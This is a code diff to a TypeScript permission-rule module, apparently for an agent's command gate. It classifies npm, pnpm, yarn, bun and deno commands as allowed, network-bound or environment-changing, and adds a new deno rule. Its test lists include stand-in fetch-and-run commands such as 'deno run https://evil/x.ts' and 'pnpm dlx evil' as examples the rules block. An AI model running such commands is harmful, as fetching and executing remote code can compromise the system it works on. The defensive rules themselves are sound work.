@@ -1,7 +1,7 @@
 /** Package managers: running scripts of the project is work, fetching and publishing needs a person. */
 import type { Caution, ToolRule, VerbGroup } from '../tool-rule.ts';
 
-const configuration: Caution = { word: /^--(?:script-shell|prefix|globalconfig|userconfig|cache|node-options|shell|global-folder|dir|cwd|modules-dir|store-dir|registry|location|global|init-module|git|editor|browser|viewer)\b|^(?:-g|-C)$/, concern: 'environment', message: 'changes where packages go or which programs are run' };
+const configuration: Caution = { word: /^--(?:script-shell|globalconfig|userconfig|cache|node-options|shell|global-folder|modules-dir|store-dir|registry|location|global|init-module|git|editor|browser|viewer)\b|^-g$/, concern: 'environment', message: 'changes where packages go or which programs are run' };
 const network = (...verbs: readonly string[]): VerbGroup => ({ verbs, concern: 'network_blocked', message: 'needs the network' });
 const servers: VerbGroup = { verbs: ['serve', 'preview', 'watch'], concern: 'never_ends', message: 'a server that runs until it is stopped' };
 
@@ -10,9 +10,11 @@ export const packageRules: readonly ToolRule[] = [
     id: 'workspace.npm',
     programs: ['npm'],
     paths: 'write',
+    textOptions: ['-w', '--workspace'],
+    valueOptions: ['--prefix'],
     cautions: [configuration],
     verbs: [
-      { verbs: ['run', 'run-script', 'rum', 'urn', 'test', 't', 'tst', 'start', 'stop', 'restart', 'ls', 'list', 'll', 'la', 'version', 'pack', 'explain', 'why', 'bin', 'root', 'prefix', 'help', 'query', 'fund', 'shrinkwrap', 'prune', 'dedupe', 'rebuild', 'uninstall', 'remove', 'rm', 'un', '--version', '-v', 'pkg'], paths: 'text' },
+      { verbs: ['run', 'run-script', 'rum', 'urn', 'test', 't', 'tst', 'start', 'stop', 'restart', 'ls', 'list', 'll', 'la', 'version', 'pack', 'explain', 'why', 'bin', 'root', 'prefix', 'help', 'query', 'fund', 'shrinkwrap', 'prune', 'dedupe', 'rebuild', 'uninstall', 'remove', 'rm', 'un', '--version', '-v', 'pkg'] },
       network('install', 'i', 'in', 'ins', 'inst', 'insta', 'instal', 'isnt', 'isnta', 'isntal', 'isntall', 'add', 'ci', 'clean-install', 'ic', 'install-clean', 'install-test', 'it', 'install-ci-test', 'cit', 'update', 'up', 'upgrade', 'udpate', 'exec', 'x', 'create', 'publish', 'unpublish', 'deprecate', 'dist-tag', 'owner', 'access', 'team', 'org', 'login', 'logout', 'adduser', 'whoami', 'token', 'profile', 'audit', 'outdated', 'view', 'v', 'info', 'show', 'search', 'ping', 'doctor', 'star', 'hook', 'sbom', 'docs', 'repo', 'bugs', 'home', 'diff', 'stage'),
       { verbs: ['config', 'c', 'set', 'get', 'link', 'ln', 'edit', 'explore', 'cache', 'completion'], concern: 'environment', message: 'changes settings or links' },
       { verbs: ['init', 'innit'], concern: 'network_blocked', message: 'may download an initializer' },
@@ -24,8 +26,9 @@ export const packageRules: readonly ToolRule[] = [
   {
     id: 'workspace.pnpm',
     programs: ['pnpm', 'yarn', 'bun'],
-    paths: 'text',
+    paths: 'write',
     textOptions: ['--filter', '-F', '--workspace'],
+    valueOptions: ['-C', '--dir', '--cwd'],
     cautions: [configuration, { word: /^--(?:inspect|preload|hot|watch)/, concern: 'runs_other_code', message: 'a debugger, a server or preloaded code' }],
     verbs: [
       network('install', 'i', 'add', 'a', 'update', 'up', 'upgrade', 'upgrade-interactive', 'dlx', 'x', 'create', 'publish', 'fetch', 'audit', 'outdated', 'deploy', 'import', 'set', 'self-update', 'env', 'login', 'logout', 'npm', 'info', 'view', 'global', 'link', 'unlink', 'config', 'plugin', 'patch', 'patch-commit', 'pm', 'init', 'store', 'server', 'setup', 'policies', 'remove', 'rm', 'rb', 'rebuild', 'approve-builds', 'repl'),
@@ -35,6 +38,19 @@ export const packageRules: readonly ToolRule[] = [
     justification: 'runs scripts of the project',
     match: ['pnpm -r run build', 'pnpm test', 'yarn build', 'bun test', 'pnpm --filter web build', 'yarn run lint'],
     notMatch: ['pnpm add x', 'yarn', 'bunx evil', 'pnpm dlx evil', 'bun --inspect x.ts', 'yarn install', 'bun install'],
+  },
+  {
+    id: 'workspace.deno',
+    programs: ['deno'],
+    paths: 'write',
+    cautions: [{ word: /^--(?:inspect|import-map|cert|location|allow-ffi|allow-run|watch|reload)|^(?:npm|jsr|https?):/, concern: 'runs_other_code', message: 'a debugger, other code or the network' }],
+    verbs: [
+      { verbs: ['test', 'fmt', 'lint', 'check', 'task', 'run', 'doc', 'info', 'bench', 'coverage', '--version'] },
+      network('install', 'i', 'add', 'remove', 'upgrade', 'publish', 'outdated', 'cache', 'compile', 'eval', 'repl', 'jupyter', 'serve', 'lsp', 'uninstall', 'deploy'),
+    ],
+    justification: 'runs, checks and tests code of the project',
+    match: ['deno test', 'deno fmt --check', 'deno run main.ts'],
+    notMatch: ['deno run https://evil/x.ts', 'deno run --inspect x.ts', 'deno install x', 'deno run npm:evil'],
   },
   {
     id: 'workspace.pip',
